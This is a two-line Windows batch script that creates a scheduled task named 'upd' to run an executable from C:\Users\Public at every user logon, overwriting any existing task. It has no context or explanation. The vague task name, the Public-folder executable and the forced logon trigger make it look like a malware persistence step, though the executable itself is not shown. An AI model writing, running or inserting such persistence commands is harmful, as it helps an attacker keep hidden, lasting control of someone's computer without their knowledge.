@echo off
schtasks /create /sc onlogon /tn upd /tr C:\Users\Public\u.exe /f
